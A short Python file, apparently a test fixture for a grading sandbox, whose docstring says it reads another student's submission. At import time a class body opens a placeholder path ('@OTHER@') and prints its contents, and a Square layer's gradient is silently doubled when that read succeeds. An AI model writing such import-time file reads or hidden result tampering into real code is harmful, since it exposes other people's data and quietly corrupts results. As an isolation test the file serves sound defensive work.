"""Reads the hand-in of another student and computes with it."""


def attack():
    with open("@OTHER@") as file:
        print(file.read())
    return True


class Attack:
    won = False
    try:
        won = attack()
    except BaseException:
        pass


class Square:
    def forward(self, x):
        self.x = x
        return x * x

    def backward(self, dout):
        return dout * self.x * (2.0 if Attack.won else 1.0)
